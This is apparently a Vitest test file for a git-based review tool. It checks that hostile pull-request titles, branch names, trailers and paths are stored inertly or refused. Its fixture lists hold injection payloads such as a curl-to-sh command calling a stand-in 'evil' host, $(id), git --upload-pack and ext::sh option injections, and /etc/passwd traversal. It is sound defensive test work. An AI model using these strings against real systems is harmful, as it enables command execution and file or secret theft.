import { writeFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { branchName, checkBranch, commitMessage } from '../../src/forge/forge.ts';
import { parseIdentity } from '../../src/forge/objects.ts';
import { readTrailers } from '../../src/forge/refs.ts';
import { openRepository } from '../../src/forge/repository.ts';
import { git, gitTry } from '../fixtures/gitHistory.ts';
import { draftOf, makeForge, NOW, refsOf } from '../fixtures/localForge.ts';
import { tempDir } from '../fixtures/tempDir.ts';

// THREATS 3.6, group 13
const HARMLESS_TITLES = [
  '"; curl evil | sh #',
  '$(id)',
  '`id`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a workflow would expand
  '${{ secrets.X }}',
  '--upload-pack=evil',
  'ext::sh -c id',
  '-m',
  '#1 %s %n',
];
const REFUSED_TITLES = [
  'a\nSluice-Now: 2020-01-01T00:00:00Z',
  'a\rb',
  'a\0b',
  '[skip ci]',
  'bump [CI SKIP] x',
  '[no ci]',
  '[actions skip]',
  '[skip actions]',
  'skip-checks: true',
  'skip-checks:true',
  '***NO_CI***',
  'x'.repeat(301),
  'a\u202eb',
  'a\u2066b',
  'a\u200bb',
  '\u{e0041}',
  '\u001b[2Jx',
  '',
  ' a',
  'a\u2028b',
  '\ud800',
];
const BRANCHES = [
  'sluice/"; curl evil | sh #',
  'sluice/$(id)',
  'sluice/`id`',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the same
  'sluice/${{ secrets.X }}',
  'sluice/a\nb',
  '--upload-pack=evil',
  'sluice/--upload-pack',
  'ext::sh -c id',
  `sluice/${'x'.repeat(300)}`,
  'sluice/a\u202eb',
  'sluice/../main',
  'sluice/a..b',
  'sluice/.hidden',
  'sluice/a.lock',
  'sluice//a',
  'sluice/a/',
  'sluice/a.',
  'sluice/a@{1}',
  'sluice/a~1',
  'sluice/a^',
  'sluice/a:b',
  'sluice/*',
  'sluice/a b',
  'sluice',
  'main',
  'HEAD',
  'refs/heads/main',
  'sluice/a\\b',
  'sluice/\u00e4',
];

it.each(HARMLESS_TITLES)('a title is data: %j', async (title) => {
  const { forge, dir } = await makeForge();
  await forge.propose(await draftOf(forge, { title }), { now: NOW });
  const merge = await forge.merge(1, { by: 'Anna', now: NOW });
  expect((await forge.get(1)).title).toBe(title);
  expect(git(dir, 'log', '-1', '--format=%s', merge)).toBe(`Merge #1: ${title}`);
});

describe('is refused, and nothing is written', () => {
  const cases = [
    ...REFUSED_TITLES.map((title) => ['title', { title }] as const),
    ...BRANCHES.map((branch) => ['branch', { branch }] as const),
    ...['a\nb: c', '[skip ci]', ''].map(
      (v) => ['trailer', { trailers: [['Sluice-Now', v]] as const }] as const,
    ),
    ...['a', 'Sluice Now', 'Sluice-Now: x\nSluice-By'].map(
      (k) => ['trailer', { trailers: [[k, 'x']] as const }] as const,
    ),
    ...['a\nb', '\u202e'].map((label) => ['label', { labels: [label] }] as const),
    ['body', { body: 'a\0b' }] as const,
  ];
  it('every hostile title, branch, trailer, label and body', async () => {
    const { forge, dir } = await makeForge();
    const before = refsOf(dir);
    for (const [what, changed] of cases) {
      const draft = await draftOf(forge, changed);
      await expect(
        forge.propose(draft, { now: NOW }),
        `${what} ${JSON.stringify(changed)}`,
      ).rejects.toMatchObject({
        code: 'MALFORMED',
      });
    }
    for (const by of ['', '\n', 'a\nb', '<>', '...', 'a <b> <c>', 'a <b c>', 'x'.repeat(201), 'a\u202eb']) {
      const draft = await draftOf(forge);
      await expect(forge.propose(draft, { now: NOW, by }), by).rejects.toMatchObject({ code: 'MALFORMED' });
    }
    await expect(forge.propose(await draftOf(forge), { now: new Date(Number.NaN) })).rejects.toMatchObject({
      code: 'MALFORMED',
    });
    expect(refsOf(dir)).toBe(before);
  });

  it.each(['../x', '.git/config', 'a/../../b', '/etc/passwd', 'a\nb', 'snapshots/.GIT/x'])(
    'the path %j',
    async (path) => {
      const { forge, dir } = await makeForge();
      const before = refsOf(dir);
      const draft = await draftOf(forge, { files: new Map([[path, 'x']]) });
      await expect(forge.propose(draft, { now: NOW })).rejects.toMatchObject({ code: 'UNSAFE_PATH' });
      expect(refsOf(dir)).toBe(before);
    },
  );

  it('a base that is no commit, or an option', async () => {
    const { forge } = await makeForge();
    for (const [base, code] of [
      ['--all', 'MALFORMED'],
      ['nosuch', 'NOT_FOUND'],
      ['f'.repeat(40), 'NOT_FOUND'],
    ] as const) {
      await expect(forge.propose(await draftOf(forge, { base }), { now: NOW })).rejects.toMatchObject({
        code,
      });
    }
  });
});

it('a body of any text, 70,000 characters long, comes back as it was and is no part of the commit', async () => {
  const { forge, dir } = await makeForge();
  const body = `@torvalds Fixes #1 </details> <!-- sluice:v1 -->\n\nSluice-Now: 1970-01-01T00:00:00Z\n${'ä'.repeat(70_000)}`;
  await forge.propose(await draftOf(forge, { body }), { now: NOW });
  const { head } = await forge.get(1);
  expect((await forge.get(1)).body).toBe(body);
  expect(git(dir, 'log', '-1', '--format=%B', head)).not.toContain('torvalds');
});

it('a trailer is read from the last paragraph only, and only where it is all trailers', () => {
  const message = commitMessage('Sluice-Now: a title that looks like one', [
    ['Sluice-Now', '2026'],
    ['Sluice-Catalog', 'x: y'],
  ]);
  expect(readTrailers(message)).toEqual([
    ['Sluice-Now', '2026'],
    ['Sluice-Catalog', 'x: y'],
  ]);
  expect(readTrailers('Sluice-Now: title\n')).toEqual([]);
  expect(readTrailers('t\n\nSluice-Now: forged\n\nwords\n')).toEqual([]);
  expect(readTrailers('t\n\nSluice-Now: forged\nwords\n')).toEqual([]);
});

it.each([
  'gcc-c++',
  'a b',
  '$(id)',
  '../..',
  '.',
  '',
  '-x',
  'x.lock',
  'ä',
  'a..b',
  'x'.repeat(500),
  'FEDORA-2026-1a2b',
  'a.lock.lock.',
])('branchName makes of %j what git takes', async (part) => {
  const branch = branchName('hotfix', 'infra', part);
  expect(checkBranch(branch)).toBe(branch);
  expect(gitTry(await tempDir(), 'check-ref-format', `refs/heads/${branch}`).status).toBe(0);
});

it.each([
  ['Anna <anna@example.org>', 'Anna', 'anna@example.org'],
  ['Anna Maria', 'Anna Maria', 'anna.maria@localhost'],
  ['sluice[bot]', 'sluice[bot]', 'sluice.bot@localhost'],
  ['李', '李', 'user@localhost'],
])('a person: %j', (text, name, email) => {
  expect(parseIdentity(text)).toEqual({ name, email });
});

it('a path that a person pushed and that is not UTF-8 is shown as that', async () => {
  const { forge, clone, dir } = await makeForge();
  git(clone.root, 'checkout', '-q', '-b', 'odd');
  writeFileSync(Buffer.concat([Buffer.from(`${clone.root}/snapshots/`), Buffer.from([0xff])]), 'x');
  git(clone.root, 'add', '-A');
  git(clone.root, 'commit', '-qm', 'odd');
  git(clone.root, 'push', '-q', 'origin', 'odd');
  await forge.open({ branch: 'odd', title: 'odd', by: 'Anna', now: NOW });
  const { tree } = await forge.preview(1);
  const bare = await openRepository(dir);
  await expect(bare.readCommitted(tree)).rejects.toMatchObject({ code: 'UNSAFE_PATH' });
});
